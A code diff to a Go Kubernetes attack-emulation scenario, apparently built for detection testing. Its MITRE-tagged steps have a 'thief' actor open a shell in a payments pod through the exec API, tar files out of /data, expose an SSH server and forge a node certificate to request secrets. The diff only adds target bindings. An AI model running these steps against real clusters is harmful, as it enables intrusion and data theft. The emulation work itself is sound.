@@ -78,16 +78,16 @@ func workloads(s *stage.Stage, thief *stage.Actor) {
 	})
 	api := s.Pod("payments", "app=api")
 	s.Attack("T1609", "Execution: New container", "puts a debug container into "+api.String()).
-		As(thief).Do(func(a *stage.Act) {
+		As(thief).On(api).Do(func(a *stage.Act) {
 		a.Must("-n", "payments", "debug", api.Name, "--image="+imageNetshoot, "--image-pull-policy=IfNotPresent", "--target=api", "-c", "dbg", "--", "sleep", "600")
 	})
 	s.Attack("T1609", "Execution: Bash or cmd inside container", "opens a shell in "+api.String()).
-		As(thief).Do(func(a *stage.Act) {
+		As(thief).On(api).Do(func(a *stage.Act) {
 		a.Request(curl, "GET", fmt.Sprintf("/api/v1/namespaces/payments/pods/%s/exec?command=bash&container=api&stdin=true&stdout=true&tty=true", api.Name), "",
 			"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: c2NlbmFyaW8gcGxheWVyIQ==", "Sec-WebSocket-Protocol: v5.channel.k8s.io")
 	})
 	s.Attack("T1005", "Collection: Collecting data from pod", "copies files out of "+api.String()).
-		As(thief).Do(func(a *stage.Act) { a.Kubectl("-n", "payments", "exec", api.Name, "--", "tar", "cf", "-", "/data") })
+		As(thief).On(api).Do(func(a *stage.Act) { a.Kubectl("-n", "payments", "exec", api.Name, "--", "tar", "cf", "-", "/data") })
 	s.Attack("T1021.004", "Execution: SSH server running inside container", "runs an SSH server and opens it to the world").
 		As(thief).Do(func(a *stage.Act) {
 		a.MustApply(pod("default", "sshd", imageSSH, "", "ports: [{containerPort: 22}]"), "create", "-f", "-")
@@ -166,7 +166,7 @@ func joinNode(s *stage.Stage, thief *stage.Actor) {
 		a.MustApply(certificateRequest("node-join", kubeletSigner, kubeletUsage, "system:node:worker-77", "system:nodes"), "create", "-f", "-")
 		a.Must("certificate", "approve", "node-join")
 	})
-	node := s.Member(thief.In, "system:node:worker-77", "system:nodes").By("")
+	node := s.Member(thief.In, "system:node:worker-77", "system:nodes").By(thief.Person)
 	s.Attack("T1613", "Credential Access: Access container service account", "asks for secrets as an unknown node").
 		As(node).Do(func(a *stage.Act) {
 		a.Request("kubelet/v1.36.3 (linux/amd64)", "POST", "/api/v1/nodes", `{"apiVersion":"v1","kind":"Node","metadata":{"name":"worker-77"}}`)
